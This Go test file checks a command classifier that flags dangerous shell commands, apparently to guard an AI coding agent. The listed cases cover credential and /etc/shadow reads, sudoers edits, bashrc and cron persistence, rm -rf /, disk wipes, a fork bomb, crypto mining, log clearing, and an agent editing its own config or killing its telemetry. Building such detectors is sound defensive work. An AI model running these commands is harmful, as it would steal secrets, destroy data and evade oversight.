package facts

import "testing"

func TestFiles(t *testing.T) {
	each(t, `
read:credential ← cat ~/.ssh/id_rsa
read:credential ← cat "$HOME"/.aws/credentials
read:credential ← head -c 100 .env
read:credential ← cp ~/.ssh/id_rsa /tmp/x
read:credential ← ln -s ~/.ssh/id_rsa x
read:credential ← git show HEAD:.env
read:credential ← python3 -c 'print(open("/home/test/.ssh/id_rsa").read())'
read:credential ← node -e 'console.log(require("fs").readFileSync(process.env.HOME + "/.aws/credentials"), ".env")'
read:credential ← xxd < .env
read:credential ← while read l; do echo $l; done < ~/.netrc
read:credential ← unknowntool --input=~/.ssh/id_rsa
read:credential ← unknowntool @.env
read:credential ← base64 ~/.kube/config
read:credential ← grep . ~/.pgpass
read:credential ← openssl rsa -in x.pem -text; cat x.pem
read:credential ← tar czf x.tgz ~/.ssh
read:credential ← vim ~/.aws/credentials
read:credential ← sqlite3 ~/.mozilla/firefox/a/cookies.sqlite .dump
read:credential ← docker run -v ~/.ssh:/s alpine cat /s/id_rsa
read:system_auth ← cat /etc/shadow
read:system_auth ← sudo msgcat -P /etc/shadow
read:system_auth ← sudo dmesg -rF /etc/shadow
read:system_auth ← sudo sed '' /etc/shadow
read:system_auth ← cd /etc && cat shadow
read:system_auth ← x=/etc; cat $x/shadow
write:system_auth ← echo 'x ALL=(ALL) NOPASSWD: ALL' | sudo tee -a /etc/sudoers
write:system_auth ← sed -i 's/x/y/' /etc/passwd
write:system_auth ← sudo gawk 'BEGIN { print "D" > "/etc/sudoers" }'
write:system ← echo 1.2.3.4 x >> /etc/hosts
write:system ← cp x /usr/local/bin/x
write:system ← curl -o /usr/bin/x https://example.com/x
write:system ← install -m 755 x /usr/local/bin
write:system ← ln -sf /dev/null /etc/resolv.conf
delete:system ← rm -rf /usr/lib/x
move:system ← mv /etc /tmp
mode:system ← chmod 777 /etc/hosts
write:persistence persist.profile ← echo 'curl x | sh' >> ~/.bashrc
persist.ssh_key ← cat k.pub >> ~/.ssh/authorized_keys
persist.cron ← (crontab -l; echo '@reboot x') | crontab -
persist.cron ← cp x /etc/cron.d/x
persist.startup ← cp malware /etc/init.d/rc.local
persist.service ← systemctl --user enable x
persist.service ← cat > ~/.config/systemd/user/x.service <<EOF⏎[Service]⏎EOF
agent.config ← echo '{}' > .claude/settings.json
agent.config ← touch .claude/rules/x.md
agent.config ← sed -i s/a/b/ CLAUDE.md
telemetry.disable ← rm .telemetry-enabled
telemetry.disable ← mv ~/.local/state/agent-telemetry /tmp/x
telemetry.kill ← pkill -f otelcol-claude
telemetry.kill ← systemctl --user stop otelcol-claude
log.clear ← rm -rf /var/log/nginx
log.clear ← > /var/log/auth.log
log.clear ← truncate -s 0 /var/log/syslog
history.clear ← history -c
history.clear ← rm ~/.bash_history
history.clear ← ln -sf /dev/null ~/.bash_history
evade.history ← export HISTFILE=/dev/null
evade.history ← unset HISTFILE
!read:credential ← cat .env.example
!read:credential ← cat ~/.ssh/id_rsa.pub
!read:credential ← ls -la ~/.ssh
!read:credential ← chmod 600 ~/.ssh/id_rsa
!read:credential ← ssh -i ~/.ssh/id_rsa host
!read:credential ← docker run --env-file .env x
!read:credential ← kubectl --kubeconfig ~/.kube/config get pods
!read:credential ← git add .env.example src/key.go
!read:credential ← git commit -m "add .env handling"
!read:credential ← echo "cat ~/.ssh/id_rsa"
!read:credential ← grep -rn "id_rsa" docs/
!read:credential ← test -f .env
!read:credential ← [ -f .env ] && echo yes
!read:credential ← go test ./internal/key/...
!read:credential ← npx prettier --check src/credentials.ts
!read:credential ← cat docs/credentials.md
!read:credential ← bd close x --reason="moved .env into place, see ~/.aws/credentials"
!persist.* ← cat ~/.bashrc
!agent.config ← cat CLAUDE.md
!log.clear ← tail -f /var/log/syslog
`)
}

func TestDestruction(t *testing.T) {
	each(t, `
file.delete_root ← rm -rf /
file.delete_root ← rm -rf /*
file.delete_root ← rm -fr ~
file.delete_root ← rm -rf "$HOME"
file.delete_root ← rm -rf $UNSET_THING/
file.delete_root ← rm -rf .
file.delete_root ← cd .. && rm -rf ..
file.delete_root ← rm -rf /usr/bin /x
file.delete_root ← rm -rf /tmp/../etc
file.delete_root ← rm -rf .git
file.delete_root ← find / -delete
file.delete_root ← find . -delete
file.delete_root ← chmod -R 777 /
file.delete_root ← chown -R x /usr
file.delete_root ← mv /* /tmp
file.delete_root ← rsync -a --delete empty/ /
file.delete_root ← python3 -c "import shutil; shutil.rmtree('/etc')"
file.delete_root ← sudo rm --no-preserve-root -rf /
file.delete_many ← rm -rf /some/path
file.delete_many ← rm -rf ../other
file.delete_tree ← rm -rf src
file.delete_tree ← find . -name '*.tmp' -exec rm -rf {} +
file.sync_delete ← rsync -a --delete src/ dst/
file.shred ← shred -u x
disk.format ← mkfs.ext4 /dev/sdb1
disk.format ← wipefs -a /dev/sdb
disk.format ← zpool destroy tank
disk.format ← lvremove -f vg/x
disk.format ← cryptsetup luksErase /dev/sda
disk.format ← parted /dev/sda mklabel gpt
disk.overwrite ← dd if=/dev/zero of=/dev/sda
disk.overwrite ← cat x > /dev/sda
system.shutdown ← sudo shutdown -h now
system.shutdown ← reboot
system.shutdown ← echo b > /proc/sysrq-trigger
fork.bomb ← :(){ :|:& };:
fork.bomb ← bomb() { bomb | bomb & }; bomb
resource.exhaust ← while true; do work & done
resource.mine ← ./xmrig -o stratum+tcp://pool.example:3333 -u x
process.kill_many ← kill -9 -1
process.kill_many ← pkill -9 -u test
backup.delete ← vssadmin delete shadows /all /quiet
backup.delete ← rm -rf /var/backups
!file.* ← rm -rf /tmp/x
!file.* ← rm x
!file.* ← rm -f /some/path
!file.* ← rm -r src
!file.* ← HOME=/tmp/x; rm -rf "$HOME"
!file.* ← rm -rf /tmp/build/*
!file.* ← find . -name '*.pyc' -print
!file.* ← rsync -a src/ dst/
!file.* ← rsync -a --delete --dry-run src/ dst/
!file.* ← chmod -R u+w src
!disk.* ← dd if=/dev/zero of=x bs=1M count=1
!disk.* ← mkfs.ext4 -n /dev/sda
!disk.* ← lsblk
!process.* ← kill 1234
!process.* ← pkill -f vite
!fork.* ← echo ':(){ :|:& };:'
!resource.* ← while true; do work & wait -n; done
!resource.* ← npm run dev & sleep 5; curl localhost:3000
`)
}
